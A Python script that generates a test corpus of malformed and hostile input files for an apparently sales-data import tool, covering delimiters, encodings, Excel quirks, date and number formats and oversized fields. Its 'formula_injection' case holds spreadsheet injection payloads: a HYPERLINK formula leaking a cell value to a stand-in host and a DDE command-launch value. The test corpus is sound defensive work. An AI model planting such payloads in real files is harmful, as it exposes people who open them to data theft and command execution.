"""Writes the hostile-input corpus beside this file. The files are committed; this script says
how each was made so that a case can be re-made or added. Run: python tests/data/bad/build_corpus.py
"""

from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).parent
DEALS = "deal_id,rep_id,stage\nD1,R1,open\nD2,R2,open\n"


def case(name: str, files: dict[str, bytes | str]) -> None:
    folder = HERE / name
    folder.mkdir(exist_ok=True)
    for file, content in files.items():
        data = content.encode("utf-8") if isinstance(content, str) else content
        (folder / file).write_bytes(data)


def main() -> None:
    reps = "rep_id;name;team;department\nR1;José Müller;A;North\nR2;Zoë Ørsted;B;South\n"
    case("semicolon_delimiter", {"reps.csv": reps, "deals.csv": DEALS})
    case("tab_delimiter", {"reps.csv": reps.replace(";", "\t"), "deals.csv": DEALS})
    case(
        "declared_wrong_delimiter",
        {
            "reps.csv": reps,
            "deals.csv": DEALS,
            "mapping.yaml": "tables:\n  reps: {file: reps.csv, delimiter: ',', columns: {rep_id: rep_id, name: name, team: team, department: department}}\n  deals: {file: deals.csv}\n",
        },
    )
    cp = "rep_id,name,team,department\nR1,Renée Façade €,A,North\nR2,“Smart” O’Neil,B,South\n"
    case("windows_1252", {"reps.csv": cp.encode("cp1252"), "deals.csv": DEALS})
    case("utf16", {"reps.csv": cp.encode("utf-16"), "deals.csv": DEALS.encode("utf-16")})
    case("byte_order_mark", {"reps.csv": "\ufeff" + cp, "deals.csv": DEALS})
    greek = (
        "rep_id,name,team,department\nR1,Γιώργος Παπαδόπουλος,Α,Βορράς\nR2,Ελένη Ιωάννου,Β,Νότος\n"
    )
    case(
        "windows_1253_greek",
        {
            "reps.csv": greek.encode("cp1253"),
            "deals.csv": DEALS,
            "mapping.yaml": "tables:\n  reps: {file: reps.csv, encoding: cp1253}\n  deals: {file: deals.csv}\n",
        },
    )

    # An Excel export: a title and a date above the header, a blank row, and the team
    # written once in a merged cell across its members' rows.
    folder = HERE / "excel_title_rows_merged_cells"
    folder.mkdir(exist_ok=True)
    wb = Workbook()
    ws = wb.active
    ws.title = "Sales staff"
    ws["A1"] = "Sales staff export"
    ws["A2"] = "Generated 2026-10-01"
    ws.append([])
    ws.append(["rep_id", "name", "team", "department"])
    ws.append(["R1", "Ana", "Alpha", "North"])
    ws.append(["R2", "Bo", None, "North"])
    ws.append(["R3", "Cy", "Beta", "South"])
    ws.merge_cells("C5:C6")
    ws.merge_cells("A1:D1")
    wb.save(folder / "reps.xlsx")
    (folder / "deals.csv").write_text("deal_id,rep_id,stage\nD1,R1,open\nD2,R2,open\nD3,R3,open\n")

    dates = (
        "deal_id,rep_id,stage,created_date,close_date\n"
        "D1,R1,won,2026-03-01,2026-03-20\n"
        "D2,R1,won,01/03/2026,20/03/2026\n"
        'D3,R2,lost,"March 1, 2026","March 20, 2026"\n'
        "D4,R2,open,2026-13-45,\n"
    )
    reps_plain = "rep_id,name,team,department\nR1,Ana,A,North\nR2,Bo,B,South\n"
    case("three_date_formats", {"reps.csv": reps_plain, "deals.csv": dates})
    case(
        "three_date_formats_mapped",
        {
            "reps.csv": reps_plain,
            "deals.csv": dates,
            "mapping.yaml": "tables:\n  reps: {file: reps.csv}\n  deals:\n    file: deals.csv\n    date_format: ['%Y-%m-%d', '%d/%m/%Y', '%B %d, %Y']\n",
        },
    )
    orders = (
        "order_id,rep_id,product_id,order_date,quantity,unit_price\n"
        'O1,R1,P1,2026-01-02,1,"1,234.50"\n'
        'O2,R1,P1,2026-01-02,1,"1.234,50"\n'
        'O3,R2,P1,2026-01-02,2,"€ 99"\n'
        'O4,R2,P1,2026-01-02,3,"7,5"\n'
        "O5,R2,P1,2026-01-02,1,12 500\n"
    )
    case("thousands_and_decimal_commas", {"reps.csv": reps_plain, "orders.csv": orders})
    case(
        "decimal_comma_declared",
        {
            "reps.csv": reps_plain,
            "orders.csv": orders.replace('"1,234.50"', '"1234,5"'),
            "mapping.yaml": "tables:\n  reps: {file: reps.csv}\n  orders: {file: orders.csv, decimal: ','}\n",
        },
    )
    case("empty_file", {"reps.csv": "", "deals.csv": DEALS})
    case(
        "header_only",
        {"reps.csv": "rep_id,name,team,department\n", "deals.csv": "deal_id,rep_id,stage\n"},
    )
    big = "x" * 1_000_000
    case(
        "one_megabyte_field",
        {
            "reps.csv": reps_plain,
            "deals.csv": DEALS,
            "customers.csv": "customer_id,name\nK1,Acme\n",
            "feedback.csv": f'feedback_id,customer_id,date,score,comment\nF1,K1,2026-01-02,9,"{big}"\nF2,K1,2026-01-03,3,short\n',
        },
    )
    case(
        "formula_injection",
        {
            "reps.csv": 'rep_id,name,team,department\nR1,"=HYPERLINK(""http://example.invalid/?leak=""&A1,""click"")",A,North\nR2,@SUM(1+1),B,South\n',
            "deals.csv": "deal_id,rep_id,stage\nD1,R1,open\nD2,=cmd|' /C calc'!A0,open\nD3,R2,open\n",
        },
    )
    case(
        "ragged_rows",
        {"reps.csv": reps_plain + "R3,Cy,C,East,extra,cells\nR4,Di\n", "deals.csv": DEALS},
    )
    case("binary_garbage", {"reps.csv": bytes(range(256)) * 20, "deals.csv": DEALS})


if __name__ == "__main__":
    main()
